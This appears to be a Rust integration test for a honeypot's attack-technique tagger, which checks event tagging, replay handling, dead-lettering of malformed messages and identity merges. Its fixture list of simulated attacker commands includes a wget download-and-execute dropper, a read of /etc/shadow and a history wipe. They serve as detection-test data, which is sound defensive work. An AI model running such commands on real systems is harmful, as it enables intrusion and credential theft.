//! The tagger end to end against a private nats-server and a temporary SQLite file: source
//! events in, the same tags the engine gives offline, announcements only for new rows, poison
//! dead-lettered without stalling the good messages.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::Duration;

use async_nats::jetstream;
use bytes::Bytes;
use chrono::Utc;
use decnet_storage::{Database, Options};
use decnet_tagger::{TaggerConfig, load_rules, run};
use decnet_test_support::NatsServer;
use decnet_ttp::fanout::from_message;
use futures_util::StreamExt;
use serde_json::{Value, json};
use tokio::sync::watch;
use uuid::Uuid;

fn rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ttp")
}

const COMMANDS: [&str; 8] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "echo hello",
    "cd /tmp; wget http://198.51.100.9/x86 -O .x; chmod +x .x; ./.x",
    "ls -la",
    "cat /etc/shadow",
    "history -c",
    "pwd",
];

/// A realistic session: a few commands, sometimes a brute force.
fn session(i: usize) -> Value {
    let ip = format!("198.51.{}.{}", 100 + i / 250, i % 250 + 1);
    let commands: Vec<Value> = (0..(i % 4))
        .map(|k| json!({"command_text": COMMANDS[(i + k) % COMMANDS.len()], "ts": "2026-12-04T10:00:00Z"}))
        .collect();
    let attempts: Vec<Value> = if i.is_multiple_of(5) {
        (0..6)
            .map(|k| json!({"username": "root", "password": format!("p{k}"), "result": "failure", "ts": "2026-12-04T09:59:00Z"}))
            .collect()
    } else {
        Vec::new()
    };
    json!({"session_id": format!("s-{i}"), "attacker_ip": ip, "decky_id": "decoy-01", "service": "ssh",
        "ended_at": "2026-12-04T10:01:00Z", "duration_s": 60.0, "commands": commands, "auth_attempts": attempts})
}

/// The tag ids the engine gives offline for each body.
fn offline_tags(bodies: &[Value]) -> Vec<BTreeSet<Uuid>> {
    let index = load_rules(&rules_dir()).unwrap();
    bodies
        .iter()
        .map(|body| {
            from_message("attacker.session.ended", body)
                .unwrap()
                .events
                .iter()
                .flat_map(|event| index.evaluate(event, Utc::now()).tags)
                .map(|t| t.uuid)
                .collect()
        })
        .collect()
}

struct Running {
    _server: NatsServer,
    js: jetstream::Context,
    db: Database,
    stop: watch::Sender<bool>,
    task: tokio::task::JoinHandle<Result<(), decnet_tagger::TaggerError>>,
    _dir: tempfile::TempDir,
}

async fn start() -> Running {
    // A raised max_payload, so the tagger's own 1 MiB bound can be shown (EVENTS.md §1.3).
    let server = NatsServer::start_with_config(Some("max_payload: 2097152\n")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("decnet.db").display());
    let mut config = TaggerConfig::new(&server.url(), &url, Some(rules_dir()));
    config.batch = 64;
    config.fetch_wait = Duration::from_millis(200);
    config.nak_delays = vec![Duration::from_millis(200)];
    let (stop, shutdown) = watch::channel(false);
    let task = tokio::spawn(async move { run(&config, shutdown).await });
    let client = decnet_bus::connect(&server.url(), "test", Duration::from_secs(5))
        .await
        .unwrap();
    let js = jetstream::new(client);
    // The tagger creates the streams; wait for them.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    while js.get_stream("EVENTS").await.is_err() || js.get_stream("TTP").await.is_err() {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the tagger did not set up the streams"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let db = Database::connect(&url, &Options::default()).await.unwrap();
    Running {
        _server: server,
        js,
        db,
        stop,
        task,
        _dir: dir,
    }
}

async fn send(js: &jetstream::Context, subject: &str, msg_id: &str, body: Bytes) {
    decnet_bus::publish(js, subject, msg_id, &BTreeMap::new(), body)
        .await
        .unwrap();
}

/// Wait until the tagger's consumer has nothing pending or unacked and its outbox is empty.
async fn settled(r: &Running) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        let stream = r.js.get_stream("EVENTS").await.unwrap();
        let ok = match stream
            .get_consumer::<jetstream::consumer::pull::Config>("tagger")
            .await
        {
            Ok(mut c) => {
                let info = c.info().await.unwrap().clone();
                info.num_pending == 0
                    && info.num_ack_pending == 0
                    && r.db.pending_count("tagger").await.unwrap() == 0
            }
            Err(_) => false,
        };
        if ok {
            return;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the tagger did not settle"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn subjects_in(
    js: &jetstream::Context,
    stream: &str,
) -> Vec<(String, Value, BTreeMap<String, String>)> {
    let s = js.get_stream(stream).await.unwrap();
    let c = s
        .create_consumer(jetstream::consumer::pull::Config::default())
        .await
        .unwrap();
    let mut out = Vec::new();
    loop {
        let mut batch = c
            .fetch()
            .max_messages(500)
            .expires(Duration::from_millis(300))
            .messages()
            .await
            .unwrap();
        let before = out.len();
        while let Some(m) = batch.next().await {
            let m = m.unwrap();
            let headers = m
                .headers
                .iter()
                .flat_map(|h| h.iter())
                .map(|(k, v)| {
                    (
                        k.to_string(),
                        v.first().map(|x| x.as_str().to_owned()).unwrap_or_default(),
                    )
                })
                .collect();
            let body = serde_json::from_slice(&m.payload).unwrap_or(Value::Null);
            out.push((m.subject.to_string(), body, headers));
            m.ack().await.unwrap();
        }
        if out.len() == before {
            return out;
        }
    }
}

#[tokio::test]
async fn session_events_become_the_offline_tags_and_replays_announce_nothing() {
    let r = start().await;
    let bodies: Vec<Value> = (0..300).map(session).collect();
    for (i, body) in bodies.iter().enumerate() {
        send(
            &r.js,
            "attacker.session.ended",
            &format!("attacker.session.ended:decoy-01:s-{i}"),
            Bytes::from(serde_json::to_vec(body).unwrap()),
        )
        .await;
    }
    settled(&r).await;
    let stored: BTreeSet<Uuid> = r.db.tags().await.unwrap().iter().map(|t| t.uuid).collect();
    let per_body = offline_tags(&bodies);
    let want: BTreeSet<Uuid> = per_body.iter().flatten().copied().collect();
    assert!(want.len() > 300, "the mix yields real tags: {}", want.len());
    assert_eq!(stored, want);

    let ttp = subjects_in(&r.js, "TTP").await;
    for (subject, body, _) in &ttp {
        assert_conforms(subject, body);
    }
    let tagged: Vec<&Value> = ttp
        .iter()
        .filter(|(s, _, _)| s == "ttp.tagged")
        .map(|(_, b, _)| b)
        .collect();
    let with_tags = per_body.iter().filter(|ids| !ids.is_empty()).count();
    assert_eq!(
        tagged.len(),
        with_tags,
        "one ttp.tagged per message that created rows"
    );
    let announced: BTreeSet<Uuid> = tagged
        .iter()
        .flat_map(|b| b["tag_uuids"].as_array().unwrap().iter())
        .map(|u| u.as_str().unwrap().parse().unwrap())
        .collect();
    assert_eq!(announced, want, "every new row announced once");
    assert!(ttp.iter().any(|(s, _, _)| s == "ttp.rule.fired.T1110"));
    let observed: Vec<Value> = subjects_in(&r.js, "EVENTS")
        .await
        .into_iter()
        .filter(|(s, _, _)| s == "attacker.observed")
        .map(|(_, b, _)| b)
        .collect();
    assert_eq!(
        observed.len(),
        300,
        "one attacker.observed per new attacker"
    );
    assert_eq!(observed[0]["attacker_ip"], json!("198.51.100.1"));
    assert_eq!(observed[0]["event_type"], json!("attacker.session.ended"));

    // Replay every event under new message ids: the server stores them, the tagger writes
    // and announces nothing.
    for (i, body) in bodies.iter().enumerate() {
        send(
            &r.js,
            "attacker.session.ended",
            &format!("replay-{i}"),
            Bytes::from(serde_json::to_vec(body).unwrap()),
        )
        .await;
    }
    settled(&r).await;
    assert_eq!(r.db.tag_count().await.unwrap(), want.len() as i64);
    let after = subjects_in(&r.js, "TTP").await;
    assert_eq!(after.len(), ttp.len(), "a replay publishes nothing on TTP");
    r.stop.send(true).unwrap();
    r.task.await.unwrap().unwrap();
}

#[tokio::test]
async fn poison_is_dead_lettered_with_its_reason_and_never_stalls_good_messages() {
    let r = start().await;
    let poison: [(&str, &str, Vec<u8>); 6] = [
        ("attacker.session.ended", "decode_error", b"{not json".to_vec()),
        ("email.unheard.of", "unknown_subject", b"{}".to_vec()),
        ("attacker.session.ended", "no_anchor", serde_json::to_vec(&json!({"session_id": "x",
            "decky_id": "decoy-01", "service": "ssh", "ended_at": "2026-12-04T10:00:00Z", "duration_s": 1})).unwrap()),
        ("attacker.session.ended", "schema_error", serde_json::to_vec(&json!({"session_id": "y",
            "attacker_ip": "203.0.113.7", "decky_id": "decoy-01", "service": "ssh",
            "ended_at": "2026-12-04T10:00:00Z", "duration_s": 1, "commands": "uname -a"})).unwrap()),
        ("attacker.session.ended", "schema_error", b"[1, 2, 3]".to_vec()),
        ("attacker.session.ended", "too_large", {
            let mut big = serde_json::to_vec(&session(9)).unwrap();
            big.truncate(big.len() - 1);
            big.extend_from_slice(br#","padding":""#);
            big.extend(std::iter::repeat_n(b'x', 1_100_000));
            big.extend_from_slice(br#""}"#);
            big
        }),
    ];
    for (i, (subject, _, body)) in poison.iter().enumerate() {
        send(
            &r.js,
            subject,
            &format!("poison-{i}"),
            Bytes::from(body.clone()),
        )
        .await;
    }
    // Skipped, not dead-lettered: a notice the tagger does not evaluate.
    send(&r.js, "attacker.heartbeat", "hb", Bytes::from_static(b"{}")).await;
    // A sensor's own sighting records the attacker, and the tagger does not announce it again.
    send(
        &r.js,
        "attacker.observed",
        "attacker.observed:192.0.2.77",
        Bytes::from_static(br#"{"attacker_ip":"192.0.2.77","first_seen":"2026-12-04T09:00:00Z"}"#),
    )
    .await;
    let good = session(5);
    send(
        &r.js,
        "attacker.session.ended",
        "good",
        Bytes::from(serde_json::to_vec(&good).unwrap()),
    )
    .await;
    settled(&r).await;

    let stored: BTreeSet<Uuid> = r.db.tags().await.unwrap().iter().map(|t| t.uuid).collect();
    assert_eq!(stored, offline_tags(std::slice::from_ref(&good)).remove(0));
    let letters = subjects_in(&r.js, "DLQ").await;
    let mut reasons: Vec<(String, String)> = letters
        .iter()
        .map(|(_, _, h)| {
            let reason = h["decnet-dlq-reason"].split(':').next().unwrap().to_owned();
            (h["decnet-dlq-msg-id"].clone(), reason)
        })
        .collect();
    reasons.sort();
    let want: Vec<(String, String)> = poison
        .iter()
        .enumerate()
        .map(|(i, (_, code, _))| (format!("poison-{i}"), (*code).to_owned()))
        .collect();
    assert_eq!(reasons, want);
    assert!(letters.iter().all(|(s, _, _)| s == "decnet.dlq.tagger"));
    let sensor = decnet_ttp::anchor::attacker_uuid_for_ip("192.0.2.77").unwrap();
    let (ip, first, _) = r.db.attacker(sensor).await.unwrap().unwrap();
    assert_eq!(ip.as_deref(), Some("192.0.2.77"));
    assert_eq!(first.to_rfc3339(), "2026-12-04T09:00:00+00:00");
    let observed: Vec<Value> = subjects_in(&r.js, "EVENTS")
        .await
        .into_iter()
        .filter(|(s, _, _)| s == "attacker.observed")
        .map(|(_, b, _)| b)
        .collect();
    assert_eq!(
        observed.len(),
        2,
        "the sensor's, and the tagger's for the good session's attacker"
    );
    r.stop.send(true).unwrap();
    r.task.await.unwrap().unwrap();
}

/// What we publish conforms to the checked-in contract: every field the schema requires is
/// present, and the body reads back as its proto type.
fn assert_conforms(subject: &str, body: &Value) {
    use decnet_proto::payload::{attacker, ttp};
    let def = decnet_proto::subject_def(subject).unwrap();
    let schema = def.schema().to_value();
    for field in schema["required"].as_array().unwrap() {
        let field = field.as_str().unwrap();
        assert!(body.get(field).is_some(), "{subject}: no {field} in {body}");
    }
    let read = match def.name {
        "ttp.tagged" => serde_json::from_value::<ttp::Tagged>(body.clone()).err(),
        "ttp.rule.fired.<technique>" => {
            serde_json::from_value::<ttp::RuleFired>(body.clone()).err()
        }
        "ttp.rule.suppressed" => serde_json::from_value::<ttp::Suppressed>(body.clone()).err(),
        "attacker.observed" => serde_json::from_value::<attacker::Observed>(body.clone()).err(),
        other => panic!("the tagger does not publish {other}"),
    };
    assert!(read.is_none(), "{subject}: {read:?} in {body}");
}

#[tokio::test]
async fn identity_bookkeeping_gives_later_tags_the_identity_and_follows_merges() {
    let r = start().await;
    let ip = "203.0.113.7";
    let attacker: Uuid = "6dd21fc3-121b-5123-aaa0-18e21dfe5b91".parse().unwrap();
    let (x, w, c) = (
        Uuid::from_u128(0xa1),
        Uuid::from_u128(0xa2),
        Uuid::from_u128(0xc1),
    );
    let session = |id: &str, command: &str| {
        json!({"session_id": id, "attacker_ip": ip, "decky_id": "decoy-01", "service": "ssh",
            "ended_at": "2026-12-04T10:01:00Z", "duration_s": 60.0,
            "commands": [{"command_text": command, "ts": "2026-12-04T10:00:00Z"}]})
    };
    let post = |subject: &'static str, id: String, body: Value| {
        let js = r.js.clone();
        async move { send(&js, subject, &id, Bytes::from(body.to_string())).await }
    };
    post(
        "attacker.session.ended",
        "s1".into(),
        session("s1", "uname -a"),
    )
    .await;
    settled(&r).await;
    post(
        "identity.formed",
        "f1".into(),
        json!({"identity_uuid": x, "observation_uuids": [attacker]}),
    )
    .await;
    settled(&r).await;
    post(
        "attacker.session.ended",
        "s2".into(),
        session("s2", "cat /etc/shadow"),
    )
    .await;
    settled(&r).await;

    let tags = r.db.tags().await.unwrap();
    let by_session = |s: &str| -> Vec<Option<Uuid>> {
        tags.iter()
            .filter(|t| t.session_id.as_deref() == Some(s))
            .map(|t| t.identity_uuid)
            .collect()
    };
    assert!(!by_session("s1").is_empty() && !by_session("s2").is_empty());
    assert!(
        by_session("s1").iter().all(Option::is_none),
        "tags are never rewritten"
    );
    assert!(
        by_session("s2").iter().all(|i| *i == Some(x)),
        "later tags take the identity"
    );

    post(
        "identity.merged",
        "m1".into(),
        json!({"winner_uuid": w, "loser_uuid": x}),
    )
    .await;
    post(
        "identity.campaign.assigned",
        "c1".into(),
        json!({"identity_uuid": w, "campaign_uuid": c, "prior_campaign_uuid": null}),
    )
    .await;
    post(
        "identity.merged",
        "m2".into(),
        json!({"winner_uuid": w, "loser_uuid": w}),
    )
    .await;
    settled(&r).await;
    assert_eq!(r.db.attacker_identity(attacker).await.unwrap(), Some(w));
    assert_eq!(
        r.db.identity(x).await.unwrap().unwrap().merged_into,
        Some(w)
    );
    assert_eq!(
        r.db.identity(w).await.unwrap().unwrap().campaign_uuid,
        Some(c)
    );

    let ttp = subjects_in(&r.js, "TTP").await;
    for (subject, body, _) in &ttp {
        assert_conforms(subject, body);
    }
    let tagged: Vec<&Value> = ttp
        .iter()
        .filter(|(s, _, _)| s == "ttp.tagged")
        .map(|(_, b, _)| b)
        .collect();
    let of = |s: &str| tagged.iter().find(|b| b["session_id"] == json!(s)).unwrap();
    assert_eq!(of("s1")["identity_uuid"], Value::Null);
    assert_eq!(of("s2")["identity_uuid"], json!(x));
    assert!(
        of("s2")["tags"]
            .as_array()
            .unwrap()
            .iter()
            .all(|t| t["identity_uuid"] == json!(x))
    );
    let events = subjects_in(&r.js, "EVENTS").await;
    for (subject, body, _) in events.iter().filter(|(s, _, _)| s == "attacker.observed") {
        assert_conforms(subject, body);
    }
    let dlq = subjects_in(&r.js, "DLQ").await;
    assert_eq!(dlq.len(), 1, "only the self-merge is poison: {dlq:?}");
    assert_eq!(
        dlq[0].2["decnet-dlq-reason"],
        "schema_error: loser_uuid: equals winner_uuid (an identity cannot merge into itself)"
    );
    r.stop.send(true).unwrap();
    r.task.await.unwrap().unwrap();
}
